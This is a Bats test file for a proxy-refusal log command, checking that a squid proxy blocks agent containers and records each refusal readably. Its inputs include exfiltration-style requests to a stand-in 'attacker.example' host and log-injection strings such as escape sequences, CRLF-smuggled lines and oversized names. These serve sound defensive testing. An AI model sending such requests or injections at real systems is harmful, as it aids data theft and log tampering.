# SPDX-License-Identifier: Apache-2.0
#
# What the proxy refuses in `sallyport log`: a real squid, asked by sealed containers. Each kind of refusal is one line
# that says which rule decided; what a line advises allows it; whatever is asked for, and however often, the log stays
# readable and its count exact.

source "$BATS_TEST_DIRNAME/common.bash"
source "$BATS_TEST_DIRNAME/proxy_install.bash"
source "$BATS_TEST_DIRNAME/log.bash"

ACCESS=/var/log/squid/sallyport-$NETWORK.access
HOSTS='.roles.agent.hosts = ["api.openai.com", "private.example", "inside.example", "missing.example", "mapped.example"]'

setup_file()
{
    proxy_stage_up private.example=10.66.0.1 inside.example="$GATEWAY" missing.example=- mapped.example=fd00:ec2::254
    chown proxy:proxy "$WORK/log" # as the distribution has it
    chmod 750 "$WORK/log"
    policy_write "$NETWORK" "$HOSTS"
    install_config
    squid_start -N
    export AGENT
    AGENT=$(address_of sp-agent)
}

teardown_file()
{
    proxy_stage_down
}

teardown()
{
    log_kill
    policy_write "$NETWORK" "$HOSTS"
}

# ask REQUEST...: from the agent's container, see proxy_client.py; prints a line for each.
ask()
{
    network_of sp-agent python3 "$BATS_TEST_DIRNAME/proxy_client.py" "$AGENT" "$PROXY" "$@"
}

# told NAME JQ-FILTER: exactly one refusal is so, within the time that squid and reader need.
told()
{
    eventually is_told "$@" || fail "no line with $2: $(cat "$WORK/$1.log")"
}

is_told()
{
    [[ $(lines "$1" ".event == \"refused\" and $2") -eq 1 ]]
}

# denied TARGET RULE ALLOW: the agent's CONNECT has its line.
denied()
{
    told json ".target == \"$1\" and .rule == \"proxy: $2\" and .allow == \"$3\" and .method == \"CONNECT\""
}

@test "each kind of refusal is one line: who, what, which rule, and what would allow it" {
    local name="then run \`sallyport proxy-config squid hermes --install\`"
    log_start json --json
    log_start text
    ask attacker.example:443 api.openai.com:22 203.0.113.10:443 '[2001:db8::1]:443' gateway:8642 private.example:443 \
        mapped.example:443 inside.example:443 missing.example:443 "bad'name:443" api.openai.com:443 \
        'GET http://attacker.example/secret?key HTTP/1.1\r\nHost: attacker.example\r\n\r\n'
    denied attacker.example:443 '$.roles.agent.hosts does not have the name' \
        "add \\\"attacker.example\\\" to \$.roles.agent.hosts, $name"
    denied api.openai.com:22 '$.roles.agent.hosts[0] allows the name at port 443 only' \
        "add \\\"api.openai.com:22\\\" to \$.roles.agent.hosts, $name"
    denied 203.0.113.10:443 'it takes names only, no addresses' nothing
    denied '[2001:db8::1]:443' 'it takes names only, no addresses' nothing
    denied gateway:8642 'the name is one inside the network, where members connect by themselves' nothing
    denied private.example:443 'target not public (10.0.0.0/8)' nothing
    denied mapped.example:443 'target not public (8000::/1)' nothing
    denied inside.example:443 'target not public (10.0.0.0/8)' nothing
    denied missing.example:443 'the name does not resolve' nothing
    denied bad%27name:443 'not a request that it understands (400)' nothing
    told json '.method == "GET" and .target == "http://attacker.example/secret?" and .allow == "nothing" and
        .rule == "proxy: it takes CONNECT only, as for https"'
    log_end
    [[ $(lines json '.event == "refused" and .by == "proxy" and .role == "agent" and .id == "sp-agent" and
        .source == env.AGENT and (.host | not) and .protocol == "tcp" and .status >= 400 and
        .allowed[0] == "api.openai.com"') -eq 11 ]] || fail "$(cat "$WORK/json.log")"
    [[ $(wc -l <"$WORK/json.log") -eq 13 ]] || fail "$(cat "$WORK/json.log")"
    [[ $(wc -l <"$WORK/text.log") -eq 13 ]] || fail "$(cat "$WORK/text.log")"
    grep -qF "agent sp-agent: refused CONNECT attacker.example:443 from $AGENT; proxy: \$.roles.agent.hosts does not have " \
        "$WORK/text.log"
}

# allow_of NAME TARGET: what the line about the target advises.
allow_of()
{
    jq -r "select(.target == \"$2\") | .allow" "$WORK/$1.log" | tail -n 1
}

# take_advice TEXT: does what an administrator does who follows it to the word.
take_advice()
{
    local what list command
    [[ $1 =~ ^add\ (\"[^\"]+\")\ to\ \$(\.roles\.[a-z.]+),\ then\ run\ \`sallyport\ ([^\`]+)\`$ ]] || fail "advice: $1"
    what=${BASH_REMATCH[1]} list=${BASH_REMATCH[2]} command=${BASH_REMATCH[3]}
    policy_write "$NETWORK" "$HOSTS | $list += [$what]"
    # shellcheck disable=SC2086 # words
    "$SALLYPORT" $command
}

@test "what a line advises allows what was refused: at the proxy, and in the hub" {
    log_start json --json
    [[ $(asks sp-agent attacker.example) == 403 ]]
    eventually is_told json '.target == "attacker.example:443"'
    take_advice "$(allow_of json attacker.example:443)"
    [[ $(asks sp-agent attacker.example) == 200 ]]
    ask attacker.example:8443
    eventually is_told json '.target == "attacker.example:8443"'
    take_advice "$(allow_of json attacker.example:8443)"
    [[ $(ask attacker.example:8443) == "200 "* ]]
    witness gateway-22 sp-gateway "$PROBE" listen tcp 0.0.0.0 22 --keep
    run ! inside sp-agent /probe tcp "$GATEWAY" 22
    eventually is_told json '.by == "hub" and .port == 22'
    take_advice "$(jq -r 'select(.port == 22) | .allow' "$WORK/json.log")"
    inside sp-agent /probe tcp "$GATEWAY" 22
    log_end
    policy_write "$NETWORK" "$HOSTS"
    "$SALLYPORT" network reload "$NETWORK"
    install_config
    [[ $(asks sp-agent attacker.example) == 403 ]]
}

@test "a policy that the proxy has not been given yet: the line says so, and the command that does" {
    log_start json --json
    policy_write "$NETWORK" '.roles.agent.hosts = ["attacker.example"]'
    [[ $(asks sp-agent attacker.example) == 403 ]]
    told json '.rule == "proxy: $.roles.agent.hosts[0] \"attacker.example\", but the proxy has another policy" and
        .allow == "run `sallyport proxy-config squid hermes --install`"'
    log_end
}

@test "who asks is told by link and address: another role, the host, an address that is nobody's" {
    log_start json --json
    network_of sp-gateway python3 "$BATS_TEST_DIRNAME/proxy_client.py" "$GATEWAY" "$PROXY" api.openai.com:443
    python3 "$BATS_TEST_DIRNAME/proxy_client.py" "$PROXY" "$PROXY" api.openai.com:443
    told json '.role == "gateway" and .id == "sp-gateway" and .link == "sp0ad10003" and .allowed == ["api.telegram.org"]'
    told json '.role == "" and .host and .rule == "proxy: the address that asks is no role'"'"'s" and .allow == "nothing"'
    # The container is gone when its line is read: the address still tells the role.
    sed -n "s/ $GATEWAY / 10.209.0.100 /p" "$ACCESS" | tail -n 1 >"$WORK/gone"
    sed -n "s/ $GATEWAY / 10.209.0.250 /p" "$ACCESS" | tail -n 1 >>"$WORK/gone"
    cat "$WORK/gone" >>"$ACCESS"
    told json '.source == "10.209.0.100" and .role == "agent" and .id == "" and .link == ""'
    told json '.source == "10.209.0.250" and .role == "" and .id == "" and (.host | not) and .allowed == null'
    log_end
}

@test "whatever is asked for, a line stays a line of printable characters" {
    local long high
    long=$(head -c 8000 /dev/zero | tr '\0' x)
    high=$(printf '\\xff%.0s' {1..3000}) # squid has no room for it escaped, and writes it as it came
    log_start json --json
    log_start text
    ask '\x1b[31mred:443' 'a\x00b:443' 'a\x9b2Jb:443' 'a"b:443' 'a%0ab:443' 'a\xe2\x80\xaeb:443' "$long:443" "x$long$long:443" \
        'CONNECT a\r\nb:443 HTTP/1.1\r\n\r\n' 'CONNECT :443 HTTP/1.1\r\n\r\n' 'CONNECT  HTTP/1.1\r\n\r\n' '\x16\x03\x01\r\n\r\n' \
        "G'ET http://a/\\x1b[2J HTTP/1.1\\r\\n\\r\\n" "GET http://a/$long HTTP/1.1\\r\\nHost: a\\r\\n\\r\\n" \
        "GET http://b/$high HTTP/1.1\\r\\nHost: b\\r\\n\\r\\n" \
        "$(head -c 40 /dev/zero | tr '\0' M) http://a/ HTTP/1.1\\r\\n\\r\\n" attacker.example:443
    told json '.target == "attacker.example:443"'
    # squid itself takes no more than 255 characters of a host, and no URL of more than 8 KiB.
    told json '(.target | startswith("xxx")) and .status == 403 and .rule == "proxy: what is asked for is no name of a host"'
    told json '.truncated and .method == "CONNECT" and .status == 400 and (.target | length) == 512'
    told json '.truncated and .method == "GET" and (.target | startswith("http://a/"))'
    told json '.truncated and .method == "GET" and (.target | startswith("http://b/%FF%FF") and length == 512)'
    log_end
    [[ $(lines json '.event == "refused" and .role == "agent"') -eq 17 ]] || fail "$(cat "$WORK/json.log")"
    [[ $(lines json '.event == "proxy-more"') -eq 0 ]]
    [[ $(wc -l <"$WORK/text.log") -eq 19 ]]
    run ! grep -P '[^ -~]' "$WORK/text.log" "$WORK/json.log"
    [[ $(wc -L <"$WORK/text.log") -lt 1000 ]]
}

@test "a flood of denied requests: few lines, and with the rest they are the number of requests" {
    log_start json --json
    log_start text
    network_of sp-agent python3 -c '
import socket, sys
source, proxy, count = sys.argv[1], sys.argv[2], int(sys.argv[3])
connection, answers = socket.create_connection((proxy, 3128), 10, (source, 0)), 0
for number in range(count):
    connection.sendall(b"GET http://secret%d.attacker.example/ HTTP/1.1\r\nHost: x\r\n\r\n" % number)
    answer = b""
    while b"\r\n\r\n" not in answer:
        answer += connection.recv(65536)
    length = int(answer.lower().split(b"content-length: ")[1].split(b"\r\n")[0])
    body = answer.split(b"\r\n\r\n", 1)[1]
    while len(body) < length:
        body += connection.recv(65536)
    answers += answer.startswith(b"HTTP/1.1 403")
print(answers)' "$AGENT" "$PROXY" 3000 >"$WORK/answers"
    [[ $(<"$WORK/answers") -eq 3000 ]]
    log_end
    shown=$(lines json '.event == "refused"')
    more=$(jq -s 'map(select(.event == "proxy-more").requests) | add' "$WORK/json.log")
    ((shown >= 50 && shown < 2500)) || fail "$shown lines"
    ((shown + more == 3000)) || fail "$shown lines and $more more"
    shown=$(grep -c 'refused GET' "$WORK/text.log")
    more=$(awk '/more refused by the proxy, not shown/ { sum += $3 } END { print sum }' "$WORK/text.log")
    ((shown + more == 3000)) || fail "$shown lines and $more more"
}

@test "the log is followed through rotation, by a reader that has no capability to read it" {
    log_start json --json
    [[ $(awk '$1 == "CapEff:" { print $2 }' "/proc/${LOGS[0]}/status") == 0000000000001000 ]]
    ask one.example:443
    told json '.target == "one.example:443"'
    # By renaming: squid makes a new one. What was written last into the old one is not lost.
    mv "$ACCESS" "$ACCESS.1"
    ask two.example:443
    kill -USR1 "$(<"$SQUID_PID")"
    eventually test -e "$ACCESS"
    chmod 640 "$ACCESS"
    ask three.example:443
    told json '.target == "two.example:443"'
    told json '.target == "three.example:443"'
    # By copying and truncating, as packaging/squid/logrotate does.
    cp "$ACCESS" "$ACCESS.2"
    : >"$ACCESS"
    ask four.example:443
    told json '.target == "four.example:443"'
    # What takes its place and is no file of squid's is not read, whoever put it there.
    mv "$ACCESS" "$ACCESS.3"
    ln -s "$ACCESS.3" "$ACCESS"
    eventually grep -q "cannot be read: Too many levels of symbolic links" "$WORK/json.errors"
    rm "$ACCESS"
    mkfifo "$ACCESS"
    eventually grep -q "cannot be read: it is not a regular file" "$WORK/json.errors"
    rm "$ACCESS"
    eventually grep -q "cannot be read: No such file" "$WORK/json.errors"
    mv "$ACCESS.3" "$ACCESS"
    eventually grep -q "can be read$" "$WORK/json.errors"
    log_end
    [[ $(lines json '.event == "proxy-more"') -eq 0 ]] || fail "$(cat "$WORK/json.log")"
}

@test "what is no line of squid's is counted and never shown" {
    ask one.example:443
    eventually grep -q one.example "$ACCESS"
    log_start json --json
    log_start text
    {
        printf '\033[2JGARBAGE\n\n'
        head -c 3000 /dev/zero | tr '\0' A
        echo
        tail -n 1 "$ACCESS" | sed 's/ CONNECT / CONNECT  /'
        tail -n 1 "$ACCESS" | sed 's/$/ \x1b/'
    } >"$WORK/garbage"
    cat "$WORK/garbage" >>"$ACCESS"
    ask attacker.example:443
    told json '.target == "attacker.example:443"'
    log_end
    [[ $(jq -s 'map(select(.event == "proxy-more")) | map(.unreadable) | add' "$WORK/json.log") -eq 5 ]] || fail "$(cat "$WORK/json.log")"
    [[ $(lines json '.event == "refused"') -eq 1 ]]
    [[ $(sed -n "s/.* lines of the proxy's log that are not of its format, not shown: \([0-9]*\);.*/\1/p" "$WORK/text.log" |
        awk '{ sum += $1 } END { print sum }') -eq 5 ]]
    run ! grep -P '[^ -~]|GARBAGE|AAA' "$WORK/text.log" "$WORK/json.log"
}

@test "without -f: what the file has, by role and host, the most frequent first" {
    : >"$ACCESS"
    ask attacker.example:443 other.example:443 attacker.example:443 attacker.example:443 \
        'GET http://other.example/a HTTP/1.1\r\nHost: a\r\n\r\n' 'GET http://other.example/b HTTP/1.1\r\nHost: a\r\n\r\n'
    network_of sp-gateway python3 "$BATS_TEST_DIRNAME/proxy_client.py" "$GATEWAY" "$PROXY" attacker.example:443
    [[ $(asks sp-agent api.openai.com) == 200 ]]
    echo garbage >>"$ACCESS"
    eventually grep -q api.openai.com "$ACCESS"
    run "$SALLYPORT" log --network "$NETWORK"
    [[ $status -eq 0 && ${lines[1]} == "hermes: 7 requests refused by the proxy, in $ACCESS" ]] || fail "$output"
    [[ ${lines[2]} == "       3  agent: CONNECT attacker.example:443; proxy: \$.roles.agent.hosts does not have the name; to allow it: add"* ]]
    [[ ${lines[3]} == "       2  agent: GET http://other.example; proxy: it takes CONNECT only, as for https; nothing allows it" ]]
    [[ ${lines[6]} == "hermes: lines there that are not of the proxy's format, not shown: 1; if "* && ${#lines[@]} -eq 7 ]]
    run "$SALLYPORT" log --json --network "$NETWORK"
    of_schema log <<<"$output"
    [[ $(jq -c '.proxy | [.requests, .unreadable, .others, (.refused | length), .refused[0].requests, .refused[0].role]' \
        <<<"$output") == '[7,1,0,4,3,"agent"]' ]] || fail "$output"
    run "$SALLYPORT" log --network "$NETWORK" --proxy-log - <"$ACCESS"
    [[ $output == *"7 requests refused by the proxy, in -"* ]] || fail "$output"
}

@test "without -f: a role that makes up names hides its own, and not what another was refused" {
    local line
    line=" 1 %s TCP_DENIED/403 0 HIER_NONE/- hosts CONNECT %s:443\n"
    {
        for i in {1..3000}; do
            # shellcheck disable=SC2059
            printf "1700000000.000$line" "$AGENT" "name-$i.example"
        done
        # shellcheck disable=SC2059
        printf "1700000000.000$line" "$GATEWAY" attacker.example
    } >"$WORK/made-up"
    "$SALLYPORT" log --json --network "$NETWORK" --proxy-log - <"$WORK/made-up" >"$WORK/made-up.json"
    jq -e '.proxy | .requests == 3001 and .others == 3000 - (.refused | map(select(.role == "agent")) | length) and
        (.refused | any(.role == "gateway" and .target == "attacker.example:443" and .requests == 1))' "$WORK/made-up.json" ||
        fail "$(cut -c1-2000 "$WORK/made-up.json")"
}

@test "a log on standard input is followed, too, and its end is told" {
    mkfifo "$WORK/pipe"
    exec 8<>"$WORK/pipe"
    "$SALLYPORT" log -f --json --network "$NETWORK" --proxy-log - <"$WORK/pipe" >"$WORK/pipe.log" 2>"$WORK/pipe.errors" \
        3>&- 8>&- &
    LOGS+=($!)
    eventually grep -q '"proxy_log":"-"' "$WORK/pipe.log"
    ask attacker.example:443
    grep ' attacker.example:443$' "$ACCESS" | tail -n 1 >&8
    told pipe '.target == "attacker.example:443" and .id == "sp-agent"'
    printf 'half a line' >&8
    exec 8>&-
    eventually grep -q "the proxy's log has ended" "$WORK/pipe.errors"
    run ! inside sp-agent /probe tcp "$GATEWAY" 23
    told pipe '.by == "hub" and .port == 23'
    log_end
    [[ $(lines pipe '.event == "proxy-more" and .unreadable == 1') -eq 1 ]] || fail "$(cat "$WORK/pipe.log")"
}
